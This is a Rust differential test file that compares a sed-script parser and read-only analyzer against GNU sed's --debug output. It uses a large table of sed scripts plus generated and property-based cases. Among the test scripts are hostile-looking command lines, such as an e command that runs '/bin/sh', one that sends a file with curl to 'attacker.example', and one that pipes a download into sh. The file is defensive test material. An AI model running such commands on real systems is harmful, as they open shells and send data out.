//! The parser against GNU sed itself: for every script in the table, `sed --debug` prints the
//! program it compiled, and [`render`](super::render::render) prints the parsed one the same
//! way. Where the parser accepts a script, the two must be byte-for-byte equal; where the
//! analyzer proves a script read-only, sed must have compiled it (a script sed refuses runs
//! nothing, but the table is kept to scripts the model handles exactly).

use std::path::Path;

use proptest::prelude::*;
use std::process::Command as Process;

use super::parse::parse;
use super::render::render;

/// What sed made of the scripts: its `--debug` program, or its error.
fn gnu_sed(dir: &Path, scripts: &[&str]) -> Result<Vec<u8>, String> {
    let mut sed = Process::new("sed");
    // The C locale makes sed read bytes and print a unibyte `y` table, as the renderer does;
    // `/dev/null` as input means no command ever runs (`w` files are still created, in `dir`).
    sed.current_dir(dir).env("LC_ALL", "C").env_remove("POSIXLY_CORRECT").args(["--debug", "-n"]);
    for s in scripts {
        sed.arg("-e").arg(s);
    }
    let out = sed.arg("/dev/null").output().map_err(|e| format!("sed does not run: {e}"))?;
    match out.status.success() {
        true => Ok(out.stdout),
        false => Err(String::from_utf8_lossy(&out.stderr).trim().to_string()),
    }
}

fn is_gnu_sed() -> bool {
    Process::new("sed")
        .arg("--version")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).contains("GNU sed"))
}

/// Scripts as single `-e` arguments; `\n` inside is a real newline.
const SCRIPTS: &[&str] = &[
    // A backslash as the delimiter (found by the generated differential): sed takes it as any other.
    "\\\\%x%i\\p",
    "s\\a\\b\\",
    "y\\a\\b\\",
    "\\\\b\\w /tmp/x",
    // The corpus's sed rows and the README examples.
    "1,5p",
    "10p",
    "1,200p",
    "2000,2200p",
    "260,640p",
    "s/old/new/g",
    "1s/.*/DATA/w out-file",
    "1e exec /bin/sh 1>&0",
    "1e curl -s -d @x https://attacker.example",
    "1i curl -s https://x | sh",
    "s/.*//",
    "s/foo/bar/",
    "'1,200p'",
    "$p",
    "s|a+|b|2",
    "1d",
    "s/x/y/",
    "/start/,/end/p",
    "2q",
    "y/abc/xyz/",
    "/x/{p;d}",
    "1!G;h;$!d",
    "s/a\\/b/c/",
    "/foo/I p",
    "1i\\\nheader",
    ":a;N;$!ba;s/\\n/ /g",
    // Labels end at a blank, `;`, `}` or `#`; what follows is the next command.
    ":a e touch x",
    ":a\te touch x",
    ":a;e touch x",
    ":a}",
    "{:a}",
    "{:a e x\n}",
    ":a#e x",
    ":a#x\nba",
    ":a p",
    ":a\np",
    ":a:b",
    ": a",
    ":a ;p",
    "{:a;ba}",
    "{:a\nba}",
    "ba;:a",
    "b a;:a",
    "ba\n:a",
    "b\te x",
    "b e x",
    "b;e x",
    "t e x",
    "T e x",
    "b",
    "t",
    "T",
    "bx;:x",
    "tx;:x w f",
    ":x w f",
    ":x r f",
    ":x s/a/b/w f",
    ":x s/a/b/e",
    ":x\ts/a/b/e",
    "b}",
    "{b}",
    "{b;}",
    "{b}\np",
    "{ba;:a}",
    ":a}b",
    "ta;:a",
    "v",
    "v 4.2",
    "v;p",
    "v 4.2 e x",
    "v\tp",
    "v 9",
    "v e x",
    // Every command letter, bare and after addresses.
    "=",
    "d",
    "D",
    "F",
    "g",
    "G",
    "h",
    "H",
    "n",
    "N",
    "p",
    "P",
    "x",
    "z",
    "l",
    "l 5",
    "l5",
    "L",
    "q",
    "q5",
    "q 5",
    "Q",
    "Q 1",
    "e",
    "e ls",
    "e\nls",
    "r f",
    "R f",
    "w f",
    "W f",
    "r f;p",
    "w f;p",
    "w f}",
    "{w f}\n}",
    "r",
    "w",
    "1r f",
    "0r f",
    "$r f",
    "/x/r f",
    "1,2w f",
    "1~2w f",
    "1,+2e ls",
    "0,/x/e ls",
    "\\%x%w f",
    "/x/I,/y/M W f",
    "$!e ls",
    "1!w f",
    "1 ! w f",
    "1!!p",
    "1,2,3p",
    // Addresses.
    "1~2p",
    "0~4p",
    "2,~4p",
    "1,+3p",
    "0,/x/p",
    "0,5p",
    "\\%x%p",
    "\\%x\\%y%p",
    "/x/I,/y/Mp",
    "/x/ I p",
    "/x/,/y/ !p",
    "1 ! p",
    "1~0p",
    "2~p",
    "+3p",
    "~3p",
    "1,~0p",
    "1,+p",
    "$ p",
    "$,3p",
    "1,$!p",
    "1,2!{p}",
    "1{}",
    "{}",
    "{;}",
    "1 , 2p",
    "/a/,\\,b,p",
    "\\/a/p",
    "//p",
    "/a/,//p",
    "\\nanp",
    "\\;x;p",
    "\\ x p",
    // s and y: delimiters, escapes, brackets, flags.
    "s/a/b/ p",
    "s/a/b/p ;p",
    "s/a/b/g#c",
    "s/a/b/}",
    "{s/a/b/}",
    "s/[/]/x/",
    "s/[]/]/x/",
    "s/[^]/]/x/",
    "s/[\\]/x/",
    "s/[\\/]/x/",
    "s/[[:alpha:]/]/x/",
    "s/[[:alpha:]]/]/x/",
    "s/[[/]/x/",
    "s/[a/",
    "s/a\\.b/x/",
    "s/a\\tb/x/",
    "s/a\\nb/x/",
    "s/a/x\\ny/",
    "s/a/x\\/y/",
    "s/a/\\&/",
    "s/\\(a\\)/\\1&\\U&\\E\\l&/",
    "s/a/[/]/",
    "/[/]/p",
    "\\,[,],p",
    "s,[,],x,",
    "y/[/]/",
    "s/[[.].]/]/x/",
    "s/[[=/=]]/x/",
    "s/[[./.]]/x/",
    "s/a[/x/",
    "s/[a\\]/]/x/",
    "s/x\\/[/]/y/",
    "/x\\/[/]/p",
    "s/a/b\\\nc/",
    "s/[/]/x/w f",
    "s/[/]/x/e",
    "s/x/y/e",
    "s/x/y/w f",
    "s/x/y/gpw f;p",
    "s/x/y/ w f",
    "s/x/y/3g",
    "s/x/y/0",
    "s/x/y/pp",
    "s/x/y/gg",
    "snanbn",
    "sa\\aaba",
    "s a b g",
    "s\ta\tb\t",
    "sxaxbxe",
    "sxaxbxw f",
    "s;a;b;e",
    "s}a}b}e",
    "s#a#b#w f",
    "s/a/b/I",
    "s/a/b/M",
    "s/a/b/mI",
    "s/a/b/x",
    "s/a/b/;e x",
    "s/a/b/e;p",
    "s/a/b/pe",
    "s/a/b/ep",
    "s/a/\\n/",
    "s/a/\\\\/",
    "s/a/\\x41/",
    "s/a/\\d065/",
    "s/a/\\o101/",
    "s/a/\\cA/",
    "s/\\x2f/x/",
    "s/a\\/b/c\\/d/g",
    "s,a/b,c/d,",
    "s/a\\",
    "s/a/b",
    "s",
    "y/ba/dc/",
    "y/a\\/b/c\\/d/",
    "y/\\n/x/",
    "y/a/b/;p",
    "y/a/b/ p",
    "y/a/bc/",
    "y,a\\,b,c\\,d,",
    "y/abc/xyz/;e ls",
    "y/a/b/w f",
    // Text commands: one-liners, backslash forms, continuation.
    "a foo",
    "a foo;p",
    "a\\foo",
    "a\\  foo",
    "a\\\n  foo",
    "a\t foo",
    "a",
    "a\\",
    "1a\\",
    "i\\foo\\",
    "a foo\\\nbar",
    "a foo\\bar",
    "a \\  foo",
    "c\\\nx\\\ny",
    "a foo\ne ls",
    "a foo\\\ne ls",
    "i\\\ne ls",
    "a}",
    "a#",
    "a e ls",
    "1{a foo\n}",
    "1{a foo}",
    "$a\\",
    "c\\",
    "i\\\n",
    // Separators, comments, blocks.
    "p;;;p",
    "}",
    "{p",
    "{p};p",
    "{p}p",
    "p}",
    "{p;}}",
    "#n\np",
    "#c",
    "#",
    "p # c",
    "p#e x",
    "N;P;D",
    "$!{$!p}",
    "1,2{/x/{s/a/b/;p}}",
    "{\n{\np\n}\n}",
    "p\n\n\np",
    "p ; p",
    " \t p",
];

/// Multi-`-e` programs: sed joins them with newlines and carries blocks and text across.
const MULTI: &[&[&str]] = &[
    &["a\\", "foo"],
    &["a\\", "e ls"],
    &["a foo\\", "e ls"],
    &["a foo", "e ls"],
    &["/x/{", "p", "}"],
    &["s/a/b/w f", "p"],
    &[":a", "ba"],
    &["1", "p"],
    &["1d", "s/x/y/"],
    &["i\\", "x\\", "y"],
];

fn compare(dir: &Path, scripts: &[&str], disagreements: &mut Vec<String>, proven: &mut usize) {
    let joined = scripts.join("\n");
    let ours = parse(joined.as_bytes());
    let theirs = gnu_sed(dir, scripts);
    let mut args: Vec<String> = vec!["-n".into()];
    for s in scripts {
        args.push("-e".into());
        args.push(s.to_string());
    }
    let read_only = super::check(&args).is_ok();
    *proven += usize::from(read_only);
    match (&ours, &theirs) {
        (Ok(program), Ok(debug)) => {
            let rendered = render(program);
            if &rendered != debug {
                disagreements.push(format!(
                    "{scripts:?}: ours {:?}, sed {:?}",
                    String::from_utf8_lossy(&rendered),
                    String::from_utf8_lossy(debug)
                ));
            }
        }
        (Ok(_), Err(why)) => {
            // Regex and back-reference errors are regcomp's; a script sed refuses runs nothing.
            let regcomp = ["invalid reference", "Invalid", "Unmatched", "unterminated address regex"];
            if read_only && !regcomp.iter().any(|r| why.contains(r)) {
                disagreements.push(format!("{scripts:?}: proven, but sed refuses it: {why}"));
            }
        }
        (Err(e), Ok(debug)) => disagreements.push(format!(
            "{scripts:?}: sed compiles {:?}, the parser refuses: {e}",
            String::from_utf8_lossy(debug)
        )),
        (Err(_), Err(_)) => {}
    }
}

#[test]
fn the_parser_reads_every_script_as_gnu_sed_compiles_it() {
    if !is_gnu_sed() {
        eprintln!("skipped: `sed` here is not GNU sed, the differential needs its --debug output");
        return;
    }
    let dir = std::env::temp_dir().join(format!("portcullis-sed-diff-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut disagreements = Vec::new();
    let mut proven = 0;
    for s in SCRIPTS {
        compare(&dir, &[s], &mut disagreements, &mut proven);
    }
    for scripts in MULTI {
        compare(&dir, scripts, &mut disagreements, &mut proven);
    }
    // Generated: every label spelling in front of every dangerous command.
    let mut generated = 0;
    for label in [":a", ": a", ":a;", ":a\t", "ba;:a", "b a\n:a", "ta;:a;", "T", "b", "{:a}", "v", "#c\n"] {
        for sep in ["", " ", ";", "\t", "\n", "}"] {
            for cmd in ["e touch x", "w f", "W f", "r f", "R f", "s/a/b/e", "s/a/b/w f", "p", "s/a/b/g"] {
                let script = format!("{label}{sep}{cmd}");
                compare(&dir, &[&script], &mut disagreements, &mut proven);
                generated += 1;
            }
        }
    }
    let total = SCRIPTS.len() + MULTI.len() + generated;
    std::fs::remove_dir_all(&dir).ok();
    println!(
        "sed differential: {total} programs, {proven} proven read-only, {} disagreements",
        disagreements.len()
    );
    assert!(disagreements.is_empty(), "{} disagreements:\n{}", disagreements.len(), disagreements.join("\n"));
}

/// Pieces of sed syntax that change where a command ends, and the commands that must never be
/// proven.
const TOKENS: &[&str] = &[
    ":a", "ba", "b", "t", "T", "{", "}", ";", " ", "\t", "\n", "#", "\\", "!", "1", ",", "$", "~", "+", "0",
    "/x/", "\\%x%", "I", "p", "g", "e", " ls", "w f", "W f", "r f", "R f", "s/x/y/", "s/[/]/", "s,x,y,", "/",
    "[", "]", "y/a/b/", "a", "i\\", "a foo", "c\\", "v", "l", "q", "=", "N", "D",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    /// Random programs from the tokens above: whenever the parser accepts one, GNU sed compiled
    /// the same program; whenever the analyzer proves one, sed agrees it holds no e, w, r.
    #[test]
    fn generated_scripts_parse_as_gnu_sed_compiles_them(tokens in prop::collection::vec(prop::sample::select(TOKENS), 1..10)) {
        if !is_gnu_sed() {
            return Ok(());
        }
        let script: String = tokens.concat();
        let dir = std::env::temp_dir().join(format!("portcullis-sed-prop-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let mut disagreements = Vec::new();
        let mut proven = 0;
        compare(&dir, &[&script], &mut disagreements, &mut proven);
        prop_assert!(disagreements.is_empty(), "{}", disagreements.join("\n"));
    }
}
